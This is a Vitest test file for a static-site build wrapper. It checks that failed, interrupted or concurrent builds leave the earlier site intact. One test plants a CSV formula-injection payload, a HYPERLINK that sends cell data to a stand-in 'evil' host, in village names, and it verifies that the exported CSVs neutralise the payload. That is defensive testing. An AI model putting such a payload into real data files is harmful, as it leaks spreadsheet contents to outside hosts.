// Publishing never destroys and never half-publishes (contract §2, `npm run build`; issue 9):
// real builds as child processes, signalled as a terminal would, over folders that hold a good
// earlier site or another site altogether.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { csvParseRows } from 'd3-dsv';
import { projectTempDir, REPO_ROOT } from './support/build.ts';
import { buildSync, copyFixture, fingerprint, FIXTURES, leftovers, startBuild } from './support/publish.ts';

const GOOD = path.join(FIXTURES, 'site-one');
const BAD = path.join(FIXTURES, 'site-bad');
const tmp = projectTempDir('publish-');
afterAll(() => rmSync(tmp, { recursive: true, force: true }));


/**
 * A good build in `<tmp>/good/dist`, made once and copied for each test that needs one. It is
 * made with the `--outDir=x` form, which the first test checks (one build fewer than a build of
 * its own).
 */
let goodDist = '';
beforeAll(() => {
  goodDist = path.join(tmp, 'good', 'dist');
  const run = buildSync([`--outDir=${goodDist}`], GOOD);
  expect(run.code, run.output).toBe(0);
}, 400_000);

function freshGoodDist(name: string): string {
  const dir = path.join(tmp, name, 'dist');
  mkdirSync(path.dirname(dir), { recursive: true });
  // cp -a keeps the modes, so the fingerprint compares like with like
  const r = spawnSync('cp', ['-a', goodDist, dir]);
  if (r.status !== 0) throw new Error(String(r.stderr));
  return dir;
}

describe('the output folder', () => {
  test('`--outDir=x` puts the chart downloads and the search index in x', () => {
    // the good build (beforeAll) was made with `--outDir=x`
    const outDir = goodDist;
    const charts = readdirSync(path.join(outDir, 'data/charts'));
    expect(charts.some((f) => f.endsWith('.csv'))).toBe(true);
    expect(charts.some((f) => f.endsWith('.svg'))).toBe(true);
    expect(existsSync(path.join(outDir, 'pagefind/pagefind-entry.json'))).toBe(true);
    expect(leftovers(outDir)).toEqual([]);
  }, 300_000);

  test('a folder outside the project gets the same files as one inside it, and none of Astro\'s own', () => {
    // Astro copies its .astro/ folder into an outDir outside the working directory; the build
    // wrapper builds inside the project and moves the site there instead.
    const outside = mkdtempSync(path.join(tmpdir(), 'publish-outside-'));
    try {
      const outDir = path.join(outside, 'www', 'town');
      const run = buildSync(['--outDir', outDir], GOOD);
      expect(run.code, run.output).toBe(0);
      const files = (dir: string) => Object.keys(fingerprint(dir)).filter((f) => f !== '.renju-site.json');
      expect(files(outDir)).toEqual(files(goodDist));
      for (const internal of ['collections/', 'content-assets.mjs', 'content-modules.mjs', 'data-store.json', 'settings.json']) {
        expect(files(outDir)).not.toContain(internal);
      }
      expect(leftovers(outDir)).toEqual([]);
      expect(existsSync(path.join(REPO_ROOT, 'node_modules/.cache/renju-build'))).toBe(false);
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  }, 300_000);

  test('a data error leaves the previous good site exactly as it was', () => {
    const dist = freshGoodDist('data-error');
    const before = fingerprint(dist);
    const run = buildSync(['--outDir', dist], BAD);
    expect(run.code).toBe(1);
    expect(run.output).toContain('type-error');
    expect(run.output).toMatch(/保持原样/);
    // no English line from Astro around our report ("An unhandled error … hook", "Stack trace:")
    const lines = run.output.replace(/\u001b\[[0-9;]*m/g, '').split('\n').filter((l) => l.trim() !== '');
    for (const line of lines) expect(line, run.output).toMatch(/[\u4e00-\u9fff]/);
    expect(fingerprint(dist)).toEqual(before);
    expect(leftovers(dist)).toEqual([]);
  }, 300_000);

  test('a folder holding another site is refused and left alone', () => {
    const other = path.join(tmp, 'webroot');
    mkdirSync(path.join(other, 'oa'), { recursive: true });
    writeFileSync(path.join(other, 'index.html'), '<h1>县政府门户</h1>');
    writeFileSync(path.join(other, 'oa', 'index.html'), '<h1>OA</h1>');
    const before = fingerprint(other);
    for (const args of [['--outDir', other], [`--outDir=${other}`]]) {
      for (const site of [GOOD, BAD]) {
        const run = buildSync(args, site);
        expect(run.code).toBe(1);
        expect(run.output).toMatch(/已拒绝.*不是空文件夹/);
        expect(fingerprint(other)).toEqual(before);
      }
    }
    expect(leftovers(other)).toEqual([]);
  }, 300_000);

  test('the site folder itself or a folder above it is refused, never deleted', () => {
    const site = copyFixture('site-bad', path.join(tmp, 'own-site'));
    const before = fingerprint(site);
    for (const outDir of [site, path.dirname(site), path.join(site, 'data'), path.join(site, 'public')]) {
      const run = buildSync([`--outDir=${outDir}`], site);
      expect(run.code, run.output).toBe(1);
      expect(run.output).toMatch(/已拒绝/);
      expect(fingerprint(site)).toEqual(before);
    }
  }, 300_000);

  test('an earlier build of this site is replaced; the new one is marked', () => {
    const dist = freshGoodDist('rebuild');
    writeFileSync(path.join(dist, 'stale.html'), 'old page');
    const run = buildSync(['--outDir', dist], GOOD);
    expect(run.code, run.output).toBe(0);
    expect(existsSync(path.join(dist, 'stale.html'))).toBe(false);
    expect(JSON.parse(readFileSync(path.join(dist, '.renju-site.json'), 'utf8')).site).toBe('renju-huanjing-site');
    expect(leftovers(dist)).toEqual([]);
  }, 300_000);
});

describe('two builds at once', () => {
  test('a lock held by a running build refuses the second one; a stale lock is taken over', () => {
    const dist = freshGoodDist('locked');
    const before = fingerprint(dist);
    // this test process is alive: its pid stands for a build still running
    writeFileSync(`${dist}.lock`, JSON.stringify({ pid: process.pid, started: 'test' }));
    const refused = buildSync(['--outDir', dist], GOOD);
    expect(refused.code).toBe(1);
    expect(refused.output).toMatch(/另一个构建正在进行/);
    expect(fingerprint(dist)).toEqual(before);
    expect(existsSync(`${dist}.lock`)).toBe(true); // not ours to remove

    writeFileSync(`${dist}.lock`, JSON.stringify({ pid: 2 ** 22 + 12345, started: 'long ago' }));
    const run = buildSync(['--outDir', dist], GOOD);
    expect(run.code, run.output).toBe(0);
    expect(leftovers(dist)).toEqual([]);
  }, 300_000);
});

describe('two builds in one project', () => {
  test('while a build runs, a second one (another outDir too) is refused; the first completes', async () => {
    const first = path.join(tmp, 'concurrent-a', 'dist');
    const second = path.join(tmp, 'concurrent-b', 'dist');
    const build = startBuild(['--outDir', first], GOOD);
    await build.waitFor(/\[build\]/);
    for (const outDir of [first, second]) {
      const refused = buildSync(['--outDir', outDir], GOOD);
      expect(refused.code).toBe(1);
      expect(refused.output).toMatch(/已有另一个构建正在进行（进程 \d+/);
    }
    expect(existsSync(second)).toBe(false);
    const run = await build.exited;
    expect(run.code, run.output).toBe(0);
    expect(existsSync(path.join(first, 'index.html'))).toBe(true);
    expect(existsSync(path.join(REPO_ROOT, '.renju-build.lock'))).toBe(false);
  }, 400_000);
});

describe('interrupted builds', () => {
  for (const signal of ['SIGINT', 'SIGTERM'] as const) {
    test(`${signal} to the build's process group leaves the previous site and no temporary files`, async () => {
      const dist = freshGoodDist(`sig-${signal}`);
      const before = fingerprint(dist);
      const build = startBuild(['--outDir', dist], GOOD);
      await build.waitFor(/└─ \/404\.html/);
      process.kill(-build.child.pid!, signal);
      const run = await build.exited;
      expect(run.code === 0).toBe(false);
      expect(fingerprint(dist)).toEqual(before);
      expect(leftovers(dist)).toEqual([]);
      expect(run.output).toMatch(/构建已中断/);
    }, 300_000);
  }

  test('SIGKILL of the process group leaves the previous site; the next build cleans up', async () => {
    const dist = freshGoodDist('sigkill');
    const before = fingerprint(dist);
    const build = startBuild(['--outDir', dist], GOOD);
    await build.waitFor(/└─ \/404\.html/);
    process.kill(-build.child.pid!, 'SIGKILL');
    await build.exited;
    expect(fingerprint(dist)).toEqual(before);
    // what is left is never under the site's own name
    for (const name of leftovers(dist)) expect(name).toMatch(/^dist\.(building-\d+|lock)$/);
    expect(leftovers(dist).length).toBeGreaterThan(0);

    const run = buildSync(['--outDir', dist], GOOD);
    expect(run.code, run.output).toBe(0);
    expect(leftovers(dist)).toEqual([]);
    expect(existsSync(path.join(dist, 'index.html'))).toBe(true);
  }, 400_000);
});

describe('the wrapper killed alone', () => {
  test('SIGKILL of the build wrapper only: its Astro child stops too, and the next build cleans up', async () => {
    const dist = freshGoodDist('wrapper-kill');
    const before = fingerprint(dist);
    const build = startBuild(['--outDir', dist], GOOD);
    await build.waitFor(/\[build\]/);
    const wrapper = build.child.pid!;
    const children = readFileSync(`/proc/${wrapper}/task/${wrapper}/children`, 'utf8').trim().split(/\s+/).map(Number);
    expect(children.length).toBe(1);
    const astro = children[0]!;
    const wrapperGone = new Promise((r) => build.child.once('exit', r));
    process.kill(wrapper, 'SIGKILL'); // the wrapper alone, not its group
    // not build.exited: the pipes stay open while the child lives
    await wrapperGone;
    const alive = () => { try { process.kill(astro, 0); return !readFileSync(`/proc/${astro}/stat`, 'utf8').includes(') Z '); } catch { return false; } };
    const started = Date.now();
    while (alive() && Date.now() - started < 5_000) await new Promise((r) => setTimeout(r, 100));
    expect(alive(), `Astro child ${astro} still running 5 s after its wrapper was killed`).toBe(false);
    await build.exited;
    expect(fingerprint(dist)).toEqual(before);

    const run = buildSync(['--outDir', dist], GOOD);
    expect(run.code, run.output).toBe(0);
    expect(leftovers(dist)).toEqual([]);
  }, 400_000);
});

/** A real tmpfs of `size` at `dir` (CI runs as root); fails loudly when it cannot mount. */
function mountTmpfs(dir: string, size: string): () => void {
  mkdirSync(dir, { recursive: true });
  const r = spawnSync('mount', ['-t', 'tmpfs', '-o', `size=${size}`, 'tmpfs', dir], { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`cannot mount a tmpfs at ${dir} (run as root): ${r.stderr}${r.error ?? ''}`);
  return () => { spawnSync('umount', ['-l', dir]); };
}

function du(dir: string): number {
  return Number(spawnSync('du', ['-sk', dir], { encoding: 'utf8' }).stdout.split(/\s/)[0]);
}

describe('another disk', () => {
  test('an empty mount point as the output folder is filled, and replaced by the next build', () => {
    const mnt = path.join(tmp, 'usb');
    const unmount = mountTmpfs(mnt, '200m');
    try {
      for (const round of [1, 2]) {
        if (round === 2) writeFileSync(path.join(mnt, 'stale.html'), 'old page');
        const run = buildSync(['--outDir', mnt], GOOD);
        expect(run.code, run.output).toBe(0);
        expect(run.output).not.toMatch(/^\s+at /m);
        expect(existsSync(path.join(mnt, 'index.html'))).toBe(true);
        expect(existsSync(path.join(mnt, '.renju-site.json'))).toBe(true);
        expect(readdirSync(mnt).filter((n) => n.startsWith('.renju-') && n !== '.renju-site.json')).toEqual([]);
        expect(leftovers(mnt)).toEqual([]);
      }
      expect(existsSync(path.join(mnt, 'stale.html'))).toBe(false);
    } finally {
      unmount();
    }
  }, 400_000);

  for (const where of ['inside the project', 'outside the project'] as const) {
    test(`a full disk (${where}): a Chinese sentence naming the folder, the old site kept, no stack`, () => {
      const parent = where === 'inside the project' ? path.join(tmp, 'full-in') : mkdtempSync(path.join(tmpdir(), 'publish-full-'));
      // room for the old site and a little more: the new one cannot be written beside it
      const unmount = mountTmpfs(parent, `${du(goodDist) + 256}k`);
      try {
        const dist = path.join(parent, 'dist');
        const r = spawnSync('cp', ['-a', goodDist, dist]);
        if (r.status !== 0) throw new Error(String(r.stderr));
        const before = fingerprint(dist);
        const run = buildSync(['--outDir', dist], GOOD);
        expect(run.code).toBe(1);
        expect(run.output).toMatch(new RegExp(`磁盘空间不足.*${dist.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}.*原来的网站保持原样`));
        expect(run.output).not.toMatch(/构建程序出错/);
        expect(run.output).not.toMatch(/^\s+at /m);
        expect(fingerprint(dist)).toEqual(before);
        expect(leftovers(dist)).toEqual([]);
      } finally {
        unmount();
        if (where === 'outside the project') rmSync(parent, { recursive: true, force: true });
      }
    }, 400_000);
  }
});

describe('whatever check accepts, the build builds', () => {
  test('village ids yj_test and YjTest, a formula as a village name, a report of 10,000 nested list items', async () => {
    const { nestedListReport } = await import('../bench/checkInputs.ts');
    const site = copyFixture('site-one', path.join(tmp, 'odd-site'));
    const evil = '=HYPERLINK("http://evil/?"&A2,"点击")';
    const evilCell = `"${evil.replaceAll('"', '""')}"`;
    for (const name of readdirSync(path.join(site, 'data'))) {
      const file = path.join(site, 'data', name);
      const text = readFileSync(file, 'utf8').replaceAll('bs-shang', 'yj_test').replaceAll('bs-xia', 'YjTest').replaceAll('上村', evilCell);
      writeFileSync(file, text);
    }
    writeFileSync(path.join(site, 'content/reports/nested.md'), nestedListReport());
    const check = spawnSync(process.execPath, [path.join(REPO_ROOT, 'node_modules/tsx/dist/cli.mjs'), 'src/cli/check.ts'], {
      cwd: REPO_ROOT, env: { ...process.env, SITE_DIR: site }, encoding: 'utf8',
    });
    expect(check.status, `${check.stdout}${check.stderr}`).toBe(0);

    const dist = path.join(tmp, 'odd', 'dist');
    const run = buildSync(['--outDir', dist], site);
    expect(run.code, run.output).toBe(0);
    expect(run.output).not.toMatch(/Maximum call stack|invalid chart id/);
    expect(existsSync(path.join(dist, 'villages/yj_test/index.html'))).toBe(true);
    expect(existsSync(path.join(dist, 'villages/YjTest/index.html'))).toBe(true);
    expect(existsSync(path.join(dist, 'reports/nested/index.html'))).toBe(true);
    const charts = readdirSync(path.join(dist, 'data/charts'));
    expect(charts).toContain('cleanup-monthly-v-yj_test.csv');
    expect(charts).toContain('cleanup-monthly-v-yjtest.csv');

    // no CSV download carries a live formula; the name is there, behind a quote
    const villagesCsv = readFileSync(path.join(dist, 'data/villages.csv'), 'utf8');
    expect(villagesCsv).toContain(`"'${evil.replaceAll('"', '""')}"`);
    for (const file of [path.join(dist, 'data/villages.csv'), ...charts.filter((f) => f.endsWith('.csv')).map((f) => path.join(dist, 'data/charts', f))]) {
      for (const row of csvParseRows(readFileSync(file, 'utf8').replace(/^\ufeff/, ''))) {
        for (const cell of row) expect(cell, file).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
      }
    }
  }, 400_000);
});
